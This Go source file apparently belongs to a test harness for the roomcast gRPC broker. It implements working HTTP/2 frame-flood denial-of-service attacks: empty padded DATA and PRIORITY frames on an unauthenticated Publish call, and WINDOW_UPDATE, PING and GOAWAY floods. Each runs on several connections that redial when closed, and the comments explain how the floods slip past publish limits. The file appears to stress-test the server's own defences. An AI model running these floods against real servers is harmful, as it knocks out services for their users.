package main

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"

	roomcastv1 "github.com/roomcast/roomcast/gen/roomcast/v1"
	"github.com/roomcast/roomcast/internal/rawh2"
)

// (n) Frames that carry nothing, without a credential: each connection
// opens one Publish call and sends padded DATA frames of no data on it,
// and PRIORITY frames between them, as fast as the server reads them.
// grpc-go spends about the same on a frame whatever it holds, and
// neither begins a message, so no publish limit sees them. A connection
// the server closes is dialled again.
func frameFlood(ctx context.Context, s childSpec) (string, error) {
	frames, dials, closed := floodConns(ctx, s.Addr, true, func(fr *http2.Framer, id uint32) error {
		if err := fr.WriteDataPadded(id, false, nil, padding); err != nil {
			return err
		}
		return fr.WritePriority(id+2, http2.PriorityParam{StreamDep: id, Weight: 15})
	}, 2)
	return fmt.Sprintf("%s frames of nothing sent (padded DATA on a Publish call without a credential, and PRIORITY) on %d connections at a time; %s dials, %s connections ended before the attack's end",
		commas(frames), floodConnections, commas(dials), commas(closed)) + attackerCPU(), nil
}

// padding is what each of (n)'s DATA frames carries: nothing but padding.
var padding = make([]byte, 8)

// (o) Control frames, without a credential: each connection sends
// WINDOW_UPDATE frames for the connection and PING frames, which a
// reader sends as it reads and every HTTP/2 server answers or applies,
// and GOAWAY frames, which grpc-go ignores, as fast as the server reads
// them. No call is made, so nothing but the frame scanner sees them. A
// connection the server closes (grpc-go's keepalive policy sends GOAWAY
// after a few PINGs on a connection it writes nothing else to) is
// dialled again.
func controlFlood(ctx context.Context, s childSpec) (string, error) {
	frames, dials, closed := floodConns(ctx, s.Addr, false, func(fr *http2.Framer, _ uint32) error {
		if err := fr.WriteWindowUpdate(0, 1); err != nil {
			return err
		}
		if err := fr.WritePing(false, [8]byte{'o'}); err != nil {
			return err
		}
		return fr.WriteGoAway(0, http2.ErrCodeNo, nil)
	}, 3)
	return fmt.Sprintf("%s control frames sent (WINDOW_UPDATE, PING and GOAWAY, no call) on %d connections at a time; %s dials, %s connections ended before the attack's end",
		commas(frames), floodConnections, commas(dials), commas(closed)) + attackerCPU(), nil
}

// floodConnections is how many connections a frame flood keeps open, and
// floodBatch how many times it writes its frames between flushes.
const floodConnections, floodBatch = 5, 500

// floodConns writes frames, which writes n frames (on the Publish call
// it opened first, if publish), floodBatch times between flushes, on
// each of floodConnections connections, as fast as the server reads
// them, until ctx is done; it dials again each connection that ends
// before. It returns how many frames it sent, how many dials it made, and
// how many connections ended early. frames is called from a goroutine
// for each connection.
func floodConns(ctx context.Context, addr string, publish bool, frames func(fr *http2.Framer, id uint32) error, n int) (sent, dials, closed int) {
	var sentN, dialsN, closedN atomic.Int64
	var wg sync.WaitGroup
	for range floodConnections {
		wg.Go(func() {
			for !ended(ctx) {
				h2, err := rawConn(ctx, addr)
				dialsN.Add(1)
				if err != nil {
					continue
				}
				var id uint32
				if publish {
					id, err = h2.Open(h2.Encode(rawh2.GRPCHeaders(addr, roomcastv1.BrokerService_Publish_FullMethodName)), false)
				}
				for err == nil && !ended(ctx) {
					err = h2.Frames(func(fr *http2.Framer) error {
						for range floodBatch {
							if err := frames(fr, id); err != nil {
								return err
							}
						}
						return nil
					})
					if err == nil {
						err = h2.Flush()
					}
					if err == nil {
						sentN.Add(int64(n * floodBatch))
					}
				}
				if err != nil && !ended(ctx) {
					closedN.Add(1)
				}
				h2.Close()
			}
		})
	}
	wg.Wait()
	return int(sentN.Load()), int(dialsN.Load()), int(closedN.Load())
}
